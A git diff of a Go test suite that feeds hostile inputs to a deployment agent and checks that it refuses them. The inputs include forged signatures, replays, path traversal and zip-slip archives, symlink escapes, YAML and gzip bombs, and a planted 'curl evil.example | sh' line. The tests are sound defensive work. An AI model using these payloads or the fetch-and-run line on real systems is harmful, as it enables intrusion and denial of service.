@@ -22,10 +22,12 @@ import (
 
 	"gopkg.in/yaml.v3"
 
+	"github.com/cohuron/deploy/internal/reliability"
 	"github.com/cohuron/deploy/pkg/fault"
 	"github.com/cohuron/deploy/pkg/manifest"
 	"github.com/cohuron/deploy/pkg/signing"
 	"github.com/cohuron/deploy/pkg/store"
+	"github.com/cohuron/deploy/pkg/trust"
 )
 
 // hostileStore plants objects in a benchHost's directory store as an
@@ -195,6 +197,61 @@ type tarEnt struct {
 
 func regular(name, body string) tarEnt {
 	return tarEnt{tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}, body}
+}
+
+func dirEnt(name string) tarEnt {
+	return tarEnt{hdr: tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755}}
+}
+
+func symlinkEnt(name, target string) tarEnt {
+	return tarEnt{hdr: tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: target}}
+}
+
+// nulNameTar is a tar whose one entry has the PAX path "a\x00xb", which
+// archive/tar refuses to write: it writes "a\u00e9b" (the same length in
+// bytes) and patches the record.
+func nulNameTar(t *testing.T) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	if err := tw.WriteHeader(&tar.Header{Name: "a\u00e9b", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1, Format: tar.FormatPAX}); err != nil {
+		t.Fatal(err)
+	}
+	tw.Write([]byte("x"))
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	b := buf.Bytes()
+	rec := []byte("path=a\u00e9b\n")
+	i := bytes.Index(b, rec)
+	if i < 0 || bytes.Count(b, rec) != 1 {
+		t.Fatal("PAX path record not found")
+	}
+	copy(b[i:], "path=a\x00xb\n")
+	return b
+}
+
+// manyEntries is a tar.gz of n empty files, written with the fastest
+// compression (about 8 bytes per entry).
+func manyEntries(t *testing.T, n int) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
+	tw := tar.NewWriter(zw)
+	var name []byte
+	for i := range n {
+		name = strconv.AppendInt(name[:0], int64(i), 36)
+		if err := tw.WriteHeader(&tar.Header{Name: string(name), Typeflag: tar.TypeReg, Mode: 0o644, Format: tar.FormatUSTAR}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
 }
 
 func tarball(t *testing.T, ents ...tarEnt) []byte {
@@ -429,225 +486,452 @@ spec:
 	os.WriteFile(filepath.Join(h.dir, "agent-small.yaml"), []byte(small), 0o644)
 
 	type hostileCase struct {
-		name   string
-		config string // default agent.yaml
-		want   string // substring of the agent's output
-		plant  func(t *testing.T)
+		name    string
+		config  string // default agent.yaml
+		want    string // substring of the agent's output
+		attack  string // the attack, one line (docs/RELIABILITY.md)
+		defense string // what stops it, one line
+		plant   func(t *testing.T)
 	}
 	tgzOf := func(t *testing.T, ents ...tarEnt) []byte { return gzipped(t, tarball(t, ents...)) }
-	archiveCase := func(name, want string, build func(t *testing.T) []byte) hostileCase {
-		return hostileCase{name: name, want: want, plant: func(t *testing.T) {
+	archiveCase := func(name, want, attack, defense string, build func(t *testing.T) []byte) hostileCase {
+		return hostileCase{name: name, want: want, attack: attack, defense: defense, plant: func(t *testing.T) {
 			s.plantBundle(name, build(t), nil, 1, 1, nil)
 		}}
 	}
 	cases := []hostileCase{
 		// Signatures over the release manifest.
-		{name: "missing-signature", want: "no signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			s.plant(rel.Seq, s.marshal(rel), nil)
-		}},
-		{name: "empty-signature", want: "no signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			s.plant(rel.Seq, s.marshal(rel), []byte{})
-		}},
-		{name: "garbage-signature", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			s.plant(rel.Seq, s.marshal(rel), []byte("not base64 at all!\n"))
-		}},
-		{name: "untrusted-key", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			s.plant(rel.Seq, raw, s.sign(s.evil, raw))
-		}},
-		{name: "signature-over-other-bytes", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			s.plant(rel.Seq, raw, s.sign(s.signer, append(raw, '\n')))
-		}},
-		{name: "flipped-byte", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			sig := s.sign(s.signer, raw)
-			i := bytes.Index(raw, []byte("APP_GREETING"))
-			raw[i+4] ^= 0x20 // APP_greeting
-			s.plant(rel.Seq, raw, sig)
-		}},
-		{name: "reordered-bytes", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			sig := s.sign(s.signer, raw)
-			// Same YAML content: apiVersion and kind swapped.
-			lines := strings.SplitN(string(raw), "\n", 4)
-			if !strings.HasPrefix(lines[1], "apiVersion:") || !strings.HasPrefix(lines[2], "kind:") {
-				t.Fatalf("unexpected manifest start: %q", lines[:3])
-			}
-			lines[1], lines[2] = lines[2], lines[1]
-			s.plant(rel.Seq, []byte(strings.Join(lines, "\n")), sig)
-		}},
-		{name: "oversized-signature", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			sig := s.sign(s.signer, raw)
-			// The valid signature after 32 KiB of junk lines.
-			s.plant(rel.Seq, raw, append(bytes.Repeat([]byte(strings.Repeat("A", 1023)+"\n"), 32), sig...))
-		}},
-		{name: "two-signatures-both-untrusted", want: "signature", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			raw := s.marshal(rel)
-			sig := append(s.sign(s.evil, raw), s.sign(s.evil, append(raw, ' '))...)
-			s.plant(rel.Seq, raw, sig)
-		}},
+		{name: "missing-signature", want: "no signature",
+			attack:  "release manifest published without a .sig object",
+			defense: "signature threshold: a release needs signatures by the policy's trusted signers, checked before parsing",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				s.plant(rel.Seq, s.marshal(rel), nil)
+			}},
+		{name: "empty-signature", want: "no signature",
+			attack:  "release manifest with an empty .sig object",
+			defense: "an empty .sig counts as no signature: the trusted-signer threshold is not met",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				s.plant(rel.Seq, s.marshal(rel), []byte{})
+			}},
+		{name: "garbage-signature", want: "signature is not base64",
+			attack:  "release .sig holding junk that is not base64",
+			defense: "each signature must decode as base64 ECDSA P-256 and verify against a trusted key",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				s.plant(rel.Seq, s.marshal(rel), []byte("not base64 at all!\n"))
+			}},
+		{name: "untrusted-key", want: "signature",
+			attack:  "release manifest validly signed by a well-formed key the policy does not trust",
+			defense: "signatures are verified only against the trust policy's public keys",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				s.plant(rel.Seq, raw, s.sign(s.evil, raw))
+			}},
+		{name: "signature-over-other-bytes", want: "signature",
+			attack:  "trusted key's valid signature over other bytes (the manifest plus a newline)",
+			defense: "the signature is verified over the exact bytes fetched, before parsing",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				s.plant(rel.Seq, raw, s.sign(s.signer, append(raw, '\n')))
+			}},
+		{name: "flipped-byte", want: "signature",
+			attack:  "release manifest with one byte flipped after signing (APP_GREETING to APP_greeting)",
+			defense: "ECDSA P-256 signature over the exact bytes, checked before parsing",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				sig := s.sign(s.signer, raw)
+				i := bytes.Index(raw, []byte("APP_GREETING"))
+				raw[i+4] ^= 0x20 // APP_greeting
+				s.plant(rel.Seq, raw, sig)
+			}},
+		{name: "reordered-bytes", want: "signature",
+			attack:  "release manifest with two lines swapped: same YAML meaning, other bytes",
+			defense: "the signature covers the bytes, not the parsed meaning",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				sig := s.sign(s.signer, raw)
+				// Same YAML content: apiVersion and kind swapped.
+				lines := strings.SplitN(string(raw), "\n", 4)
+				if !strings.HasPrefix(lines[1], "apiVersion:") || !strings.HasPrefix(lines[2], "kind:") {
+					t.Fatalf("unexpected manifest start: %q", lines[:3])
+				}
+				lines[1], lines[2] = lines[2], lines[1]
+				s.plant(rel.Seq, []byte(strings.Join(lines, "\n")), sig)
+			}},
+		{name: "oversized-signature", want: "signature size",
+			attack:  "release .sig padded with 32 KiB of junk lines before a valid signature",
+			defense: ".sig objects are read with a 16 KiB cap; a larger one is refused unread",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				sig := s.sign(s.signer, raw)
+				// The valid signature after 32 KiB of junk lines.
+				s.plant(rel.Seq, raw, append(bytes.Repeat([]byte(strings.Repeat("A", 1023)+"\n"), 32), sig...))
+			}},
+		{name: "two-signatures-both-untrusted", want: "0 valid among 2 signature(s)",
+			attack:  "a .sig with two signatures, both by an untrusted key",
+			defense: "every signature is tried against every trusted key; none counts, so the threshold is not met",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				raw := s.marshal(rel)
+				sig := append(s.sign(s.evil, raw), s.sign(s.evil, append(raw, ' '))...)
+				s.plant(rel.Seq, raw, sig)
+			}},
 
 		// Replays and history.
-		{name: "old-release-under-new-seq", want: "replay", plant: func(t *testing.T) {
-			seq := s.next()
-			s.plant(seq, seq1, seq1Sig)
-		}},
-		{name: "rollback-to-older-seq", want: "replay", plant: func(t *testing.T) {
-			// Newer releases deleted, the hint moved back to seq 1.
-			k2 := store.ReleaseKey(hostileEnv, 2)
-			s.remove(k2)
-			s.remove(store.SigKey(k2))
-			s.put(store.LatestKey(hostileEnv), []byte("1\n"))
-		}},
-		{name: "same-seq-other-bytes", want: "replay", plant: func(t *testing.T) {
-			rel := s.release(nil)
-			rel.Seq = s.baseSeq
-			raw := s.marshal(rel)
-			k2 := store.ReleaseKey(hostileEnv, 2)
-			s.put(k2, raw)
-			s.put(store.SigKey(k2), s.sign(s.signer, raw))
-			// Other hint bytes than the applied one, so the agent reads it.
-			s.put(store.LatestKey(hostileEnv), []byte("2\n\n"))
-		}},
-		{name: "expired", want: "expiry", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) {
-				r.IssuedAt = time.Now().UTC().Add(-48 * time.Hour).Truncate(time.Second)
-				r.ExpiresAt = r.IssuedAt.Add(time.Hour)
-			}))
-		}},
-		{name: "issued-in-the-future", want: "issue time", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) {
-				r.IssuedAt = time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second)
-				r.ExpiresAt = r.IssuedAt.Add(time.Hour)
-			}))
-		}},
-		{name: "other-environment", want: "environment", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) { r.Env = "other" }))
-		}},
+		{name: "old-release-under-new-seq", want: "replay",
+			attack:  "genuine signed seq 1 copied under a new seq's object name and hint",
+			defense: "replay check on the signed seq inside the manifest (below the last applied); object names are not trusted",
+			plant: func(t *testing.T) {
+				seq := s.next()
+				s.plant(seq, seq1, seq1Sig)
+			}},
+		{name: "rollback-to-older-seq", want: "replay",
+			attack:  "newer releases deleted and the latest hint moved back to seq 1",
+			defense: "replay check: a signed seq below the last applied seq is refused; the unsigned hint is not trusted",
+			plant: func(t *testing.T) {
+				// Newer releases deleted, the hint moved back to seq 1.
+				k2 := store.ReleaseKey(hostileEnv, 2)
+				s.remove(k2)
+				s.remove(store.SigKey(k2))
+				s.put(store.LatestKey(hostileEnv), []byte("1\n"))
+			}},
+		{name: "same-seq-other-bytes", want: "replay",
+			attack:  "validly signed other bytes under the applied seq",
+			defense: "replay check: the applied seq may only come back with the applied digest",
+			plant: func(t *testing.T) {
+				rel := s.release(nil)
+				rel.Seq = s.baseSeq
+				raw := s.marshal(rel)
+				k2 := store.ReleaseKey(hostileEnv, 2)
+				s.put(k2, raw)
+				s.put(store.SigKey(k2), s.sign(s.signer, raw))
+				// Other hint bytes than the applied one, so the agent reads it.
+				s.put(store.LatestKey(hostileEnv), []byte("2\n\n"))
+			}},
+		{name: "fast-forward", want: "seq jump",
+			attack:  fmt.Sprintf("validly signed release %d seqs past the applied one, so no honest release is newer again", trust.DefaultMaxSeqJump+1),
+			defense: fmt.Sprintf("seq jump check: at most policy limits.maxSeqJump (default %d) past the last applied seq", trust.DefaultMaxSeqJump),
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Seq = s.baseSeq + trust.DefaultMaxSeqJump + 1 }))
+			}},
+		{name: "expired", want: "expiry",
+			attack:  "validly signed release whose expiresAt has passed (a stale release replayed)",
+			defense: "expiry check: expiresAt must be after the host clock",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) {
+					r.IssuedAt = time.Now().UTC().Add(-48 * time.Hour).Truncate(time.Second)
+					r.ExpiresAt = r.IssuedAt.Add(time.Hour)
+				}))
+			}},
+		{name: "issued-in-the-future", want: "issue time",
+			attack:  "validly signed release issued a day in the future (pre-signed for later)",
+			defense: "issue time check: issuedAt at most 5 minutes of clock skew past the host clock",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) {
+					r.IssuedAt = time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second)
+					r.ExpiresAt = r.IssuedAt.Add(time.Hour)
+				}))
+			}},
+		{name: "other-environment", want: "environment",
+			attack:  "validly signed release of another environment planted in this one",
+			defense: "environment check: the signed env must be this host's and allowed by the policy",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Env = "other" }))
+			}},
 
 		// Validly signed, but not a release this agent may read.
-		{name: "bundle-key-outside-bundles", want: "bundle.key", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "releases/demo/latest" }))
-		}},
-		{name: "bundle-key-dotdot", want: "bundle.key", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "bundles/../../etc/passwd.tar.gz" }))
-		}},
-		{name: "bundle-over-size-limit", want: "bundle size", plant: func(t *testing.T) {
-			s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Size = 2 << 30 }))
-		}},
-		{name: "yaml-duplicate-key", want: "release manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string {
-				return strings.Replace(y, "\nenv: demo\n", "\nenv: demo\nenv: demo\n", 1)
-			})
-		}},
-		{name: "yaml-unknown-field", want: "release manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string { return y + "postInstall: curl evil.example | sh\n" })
-		}},
-		{name: "yaml-anchor-alias", want: "release manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string {
-				y = strings.Replace(y, "\nenv: demo\n", "\nenv: &e demo\n", 1)
-				return strings.Replace(y, "\n  branch: main\n", "\n  branch: *e\n", 1)
-			})
-		}},
-		{name: "yaml-two-documents", want: "release manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string { return y + "---\n" + y })
-		}},
-		{name: "yaml-wrong-type", want: "release manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string {
-				return strings.Replace(y, "\n  files: ", "\n  files: many # was ", 1)
-			})
-		}},
-		{name: "yaml-oversized", want: "manifest", plant: func(t *testing.T) {
-			s.plantText(s.release(nil), func(y string) string {
-				return y + "# " + strings.Repeat("x", 2<<20) + "\n"
-			})
-		}},
+		{name: "bundle-key-outside-bundles", want: "bundle.key",
+			attack:  "signed release whose bundle.key names a store object outside bundles/",
+			defense: "release validation: bundle.key must match bundles/<name>.tar.gz",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "releases/demo/latest" }))
+			}},
+		{name: "bundle-key-dotdot", want: "bundle.key",
+			attack:  "signed release whose bundle.key climbs out with bundles/../../",
+			defense: "release validation: bundle.key must match bundles/<name>.tar.gz (no / or .. after bundles/)",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "bundles/../../etc/passwd.tar.gz" }))
+			}},
+		{name: "forced-getter", want: `bundle.key: expected bundles/<name>.tar.gz, found "git::`,
+			attack:  "signed release whose bundle.key forces a go-getter git getter (git::https://...)",
+			defense: "release validation: bundle.key must match bundles/<name>.tar.gz, so no :: or scheme reaches go-getter (whose only getter also refuses forced ones)",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "git::https://example.com/x.git" }))
+			}},
+		{name: "forced-getter-s3", want: `bundle.key: expected bundles/<name>.tar.gz, found "s3::`,
+			attack:  "signed release whose bundle.key forces an s3 getter to another bucket (s3::https://.../bundles/x.tar.gz)",
+			defense: "release validation: bundle.key must start with bundles/ and hold only [A-Za-z0-9._-] after it",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) {
+					r.Bundle.Key = "s3::https://evil-bucket.s3.amazonaws.com/bundles/x.tar.gz"
+				}))
+			}},
+		{name: "bundle-over-size-limit", want: "bundle size",
+			attack:  "signed release pinning a 2 GiB bundle",
+			defense: "policy limits.bundleBytes (default 1 GiB) checked against the signed size before downloading",
+			plant: func(t *testing.T) {
+				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Size = 2 << 30 }))
+			}},
+		{name: "yaml-duplicate-key", want: "release manifest",
+			attack:  "signed manifest with a key given twice, for parsers that disagree on which wins",
+			defense: "strict YAML: duplicate keys refused",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string {
+					return strings.Replace(y, "\nenv: demo\n", "\nenv: demo\nenv: demo\n", 1)
+				})
+			}},
+		{name: "yaml-unknown-field", want: "release manifest",
+			attack:  "signed manifest with an extra field (postInstall: curl evil | sh)",
+			defense: "strict YAML: typed decoding refuses unknown fields",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string { return y + "postInstall: curl evil.example | sh\n" })
+			}},
+		{name: "yaml-anchor-alias", want: "release manifest",
+			attack:  "signed manifest reusing a value through an anchor and an alias",
+			defense: "strict YAML: anchors and aliases refused on the node tree, before decoding",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string {
+					y = strings.Replace(y, "\nenv: demo\n", "\nenv: &e demo\n", 1)
+					return strings.Replace(y, "\n  branch: main\n", "\n  branch: *e\n", 1)
+				})
+			}},
+		{name: "yaml-alias-bomb", want: "anchors and aliases are not allowed",
+			attack:  "signed manifest with a billion-laughs alias bomb: 9 nested levels of 9 aliases, 9^9 nodes from under 1 KB",
+			defense: "strict YAML: the first pass keeps aliases as nodes and refuses any anchor before anything expands them",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string {
+					var b strings.Builder
+					b.WriteString("\nenv: demo\nlol:\n  l0: &l0 [" + strings.TrimSuffix(strings.Repeat(`"lol",`, 9), ",") + "]\n")
+					for i := 1; i < 9; i++ {
+						fmt.Fprintf(&b, "  l%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d,", i-1), 9), ","))
+					}
+					out := strings.Replace(y, "\nenv: demo\n", b.String(), 1)
+					if out == y || len(out) >= trust.DefaultManifestBytes/64 {
+						t.Fatalf("alias bomb not planted or too large (%d bytes)", len(out))
+					}
+					return out
+				})
+			}},
+		{name: "yaml-two-documents", want: "release manifest",
+			attack:  "signed manifest followed by a second YAML document",
+			defense: "strict YAML: exactly one document allowed",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string { return y + "---\n" + y })
+			}},
+		{name: "yaml-wrong-type", want: "release manifest",
+			attack:  "signed manifest with a string where bundle.files is an integer",
+			defense: "strict YAML: typed decoding refuses the type mismatch",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string {
+					return strings.Replace(y, "\n  files: ", "\n  files: many # was ", 1)
+				})
+			}},
+		{name: "yaml-oversized", want: "manifest",
+			attack:  "a 2 MiB release manifest (a huge comment)",
+			defense: "policy limits.manifestBytes (default 1 MiB): the store read stops past it, before signature checks or parsing",
+			plant: func(t *testing.T) {
+				s.plantText(s.release(nil), func(y string) string {
+					return y + "# " + strings.Repeat("x", 2<<20) + "\n"
+				})
+			}},
 
 		// The bundle itself.
-		{name: "bundle-flipped-byte", want: "bundle digest", plant: func(t *testing.T) {
-			tgz := tgzOf(t, regular("a.txt", "hello"))
-			s.plantBundle("flipped", tgz, nil, 1, 5, func(key string) {
-				bad := bytes.Clone(tgz)
-				bad[len(bad)/2] ^= 0xff
-				s.put(key, bad)
-			})
-		}},
-		{name: "bundle-truncated", want: "bundle size", plant: func(t *testing.T) {
-			tgz := tgzOf(t, regular("a.txt", "hello"))
-			s.plantBundle("truncated-object", tgz, nil, 1, 5, func(key string) { s.put(key, tgz[:len(tgz)-1]) })
-		}},
-		{name: "bundle-missing-signature", want: "signature", plant: func(t *testing.T) {
-			s.plantBundle("unsigned", tgzOf(t, regular("a.txt", "hello")), []byte{}, 1, 5, nil)
-		}},
-		{name: "bundle-oversized-signature", want: "signature", plant: func(t *testing.T) {
-			tgz := tgzOf(t, regular("a.txt", "hello"))
-			sig := append(bytes.Repeat([]byte(strings.Repeat("A", 1023)+"\n"), 32), s.sign(s.signer, tgz)...)
-			s.plantBundle("big-sig", tgz, sig, 1, 5, nil)
-		}},
-		{name: "bundle-untrusted-signature", want: "signature", plant: func(t *testing.T) {
-			tgz := tgzOf(t, regular("a.txt", "hello"))
-			s.plantBundle("evil-signed", tgz, s.sign(s.evil, tgz), 1, 5, nil)
-		}},
+		{name: "bundle-flipped-byte", want: "bundle digest",
+			attack:  "bundle object with one byte flipped after signing",
+			defense: "sha256 of the downloaded bundle must equal the signed bundle.sha256, before extraction",
+			plant: func(t *testing.T) {
+				tgz := tgzOf(t, regular("a.txt", "hello"))
+				s.plantBundle("flipped", tgz, nil, 1, 5, func(key string) {
+					bad := bytes.Clone(tgz)
+					bad[len(bad)/2] ^= 0xff
+					s.put(key, bad)
+				})
+			}},
+		{name: "bundle-truncated", want: "bundle size",
+			attack:  "bundle object one byte shorter than signed",
+			defense: "the downloaded size must equal the signed bundle.size",
+			plant: func(t *testing.T) {
+				tgz := tgzOf(t, regular("a.txt", "hello"))
+				s.plantBundle("truncated-object", tgz, nil, 1, 5, func(key string) { s.put(key, tgz[:len(tgz)-1]) })
+			}},
+		{name: "bundle-missing-signature", want: "signature",
+			attack:  "bundle uploaded with an empty .sig",
+			defense: "the bundle has its own detached signature, held to the policy's threshold",
+			plant: func(t *testing.T) {
+				s.plantBundle("unsigned", tgzOf(t, regular("a.txt", "hello")), []byte{}, 1, 5, nil)
+			}},
+		{name: "bundle-oversized-signature", want: "signature size",
+			attack:  "bundle .sig padded with 32 KiB of junk lines before a valid signature",
+			defense: ".sig objects are read with a 16 KiB cap; a larger one is refused unread",
+			plant: func(t *testing.T) {
+				tgz := tgzOf(t, regular("a.txt", "hello"))
+				sig := append(bytes.Repeat([]byte(strings.Repeat("A", 1023)+"\n"), 32), s.sign(s.signer, tgz)...)
+				s.plantBundle("big-sig", tgz, sig, 1, 5, nil)
+			}},
+		{name: "bundle-untrusted-signature", want: "signature",
+			attack:  "bundle signed by a key the policy does not trust",
+			defense: "the bundle signature is verified only against the trust policy's public keys",
+			plant: func(t *testing.T) {
+				tgz := tgzOf(t, regular("a.txt", "hello"))
+				s.plantBundle("evil-signed", tgz, s.sign(s.evil, tgz), 1, 5, nil)
+			}},
 
 		// Validly signed archives the extractor must refuse.
-		archiveCase("dotdot", ".. component", func(t *testing.T) []byte {
-			return tgzOf(t, regular("../outside.txt", "pwned"))
-		}),
-		archiveCase("absolute", "absolute", func(t *testing.T) []byte {
-			return tgzOf(t, regular("/tmp/cohuron-hostile-canary", "pwned"))
-		}),
-		archiveCase("symlink-escape", "outside", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{hdr: tar.Header{Name: "up", Typeflag: tar.TypeSymlink, Linkname: "../../../.."}},
-				regular("up/outside.txt", "pwned"))
-		}),
-		archiveCase("symlink-absolute", "absolute", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{hdr: tar.Header{Name: "etc", Typeflag: tar.TypeSymlink, Linkname: "/etc"}})
-		}),
-		archiveCase("hardlink", "hard link", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{hdr: tar.Header{Name: "passwd", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}})
-		}),
-		archiveCase("fifo", "FIFO", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{hdr: tar.Header{Name: "pipe", Typeflag: tar.TypeFifo, Mode: 0o644}})
-		}),
-		archiveCase("char-device", "character device", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{hdr: tar.Header{Name: "null", Typeflag: tar.TypeChar, Mode: 0o666, Devmajor: 1, Devminor: 3}})
-		}),
-		archiveCase("setuid", "setuid", func(t *testing.T) []byte {
-			return tgzOf(t, tarEnt{tar.Header{Name: "su", Typeflag: tar.TypeReg, Mode: 0o4755, Size: 1}, "x"})
-		}),
-		archiveCase("truncated-gzip", "unexpected EOF", func(t *testing.T) []byte {
-			b := tgzOf(t, regular("a", strings.Repeat("hello ", 1000)), regular("b", "x"))
-			return b[:len(b)/2]
-		}),
-		archiveCase("not-gzip", "not gzip", func(t *testing.T) []byte {
-			return tarball(t, regular("a", "x"))
-		}),
-		archiveCase("trailing-garbage", "after the end of the gzip stream", func(t *testing.T) []byte {
-			return append(tgzOf(t, regular("a", "x")), "garbage"...)
-		}),
-		archiveCase("second-gzip-member", "after the end of the gzip stream", func(t *testing.T) []byte {
-			return append(tgzOf(t, regular("a", "x")), tgzOf(t, regular("../outside.txt", "pwned"))...)
-		}),
-		{name: "gzip-bomb", config: "agent-small.yaml", want: "more than 1048576 bytes", plant: func(t *testing.T) {
-			// 128 MiB of zeros in about 130 KB, claiming (signed) 1 MiB:
-			// the extractor stops at the signed size, below the policy's 64 MiB.
-			s.plantBundle("bomb", zeroBomb(t, 128), nil, 1, 1<<20, nil)
-		}},
+		archiveCase("dotdot", ".. component",
+			"signed bundle with an entry ../outside.txt (zip slip)",
+			"extractor refuses names with a .. component, and writes only through os.Root",
+			func(t *testing.T) []byte {
+				return tgzOf(t, regular("../outside.txt", "pwned"))
+			}),
+		archiveCase("absolute", "absolute",
+			"signed bundle with an entry /tmp/cohuron-hostile-canary",
+			"extractor refuses absolute entry names",
+			func(t *testing.T) []byte {
+				return tgzOf(t, regular("/tmp/cohuron-hostile-canary", "pwned"))
+			}),
+		archiveCase("symlink-escape", "outside",
+			"signed bundle with a symlink up -> ../../../.. then a file up/outside.txt",
+			"extractor checks each symlink target against the root at its entry, before any later entry",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{hdr: tar.Header{Name: "up", Typeflag: tar.TypeSymlink, Linkname: "../../../.."}},
+					regular("up/outside.txt", "pwned"))
+			}),
+		archiveCase("symlink-then-file", "path goes through symlink lib",
+			"signed bundle with an inside symlink lib -> sub, then a file lib/x written through it",
+			"extractor never writes through a symlink: symlinks are created last, and paths through them are refused",
+			func(t *testing.T) []byte {
+				return tgzOf(t, dirEnt("sub/"), symlinkEnt("lib", "sub"), regular("lib/x", "x"))
+			}),
+		archiveCase("symlink-chain-escape", "resolves outside the directory",
+			"signed bundle with symlinks a/up -> .. and esc -> a/up/.., each lexically inside, together outside",
+			"extractor resolves every symlink through the archive's other symlinks, as the kernel would, before creating any",
+			func(t *testing.T) []byte {
+				return tgzOf(t, dirEnt("a/"), symlinkEnt("a/up", ".."), symlinkEnt("esc", "a/up/.."))
+			}),
+		archiveCase("symlink-absolute", "absolute",
+			"signed bundle with a symlink etc -> /etc",
+			"extractor refuses symlinks to absolute paths",
+			func(t *testing.T) []byte {
+				return tgzOf(t, symlinkEnt("etc", "/etc"))
+			}),
+		archiveCase("hardlink", "hard link",
+			"signed bundle with a hard link to /etc/passwd",
+			"extractor refuses hard links outright",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{hdr: tar.Header{Name: "passwd", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}})
+			}),
+		archiveCase("fifo", "FIFO",
+			"signed bundle with a FIFO (whatever opens it blocks)",
+			"extractor writes only regular files, directories and symlinks",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{hdr: tar.Header{Name: "pipe", Typeflag: tar.TypeFifo, Mode: 0o644}})
+			}),
+		archiveCase("char-device", "character device",
+			"signed bundle with a character device (1,3)",
+			"extractor writes only regular files, directories and symlinks",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{hdr: tar.Header{Name: "null", Typeflag: tar.TypeChar, Mode: 0o666, Devmajor: 1, Devminor: 3}})
+			}),
+		archiveCase("block-device", "block device",
+			"signed bundle with a block device (8,0: a whole disk)",
+			"extractor writes only regular files, directories and symlinks",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{hdr: tar.Header{Name: "sda", Typeflag: tar.TypeBlock, Mode: 0o666, Devmajor: 8, Devminor: 0}})
+			}),
+		archiveCase("setuid", "setuid",
+			"signed bundle with a setuid (04755) file",
+			"extractor refuses setuid, setgid and sticky modes",
+			func(t *testing.T) []byte {
+				return tgzOf(t, tarEnt{tar.Header{Name: "su", Typeflag: tar.TypeReg, Mode: 0o4755, Size: 1}, "x"})
+			}),
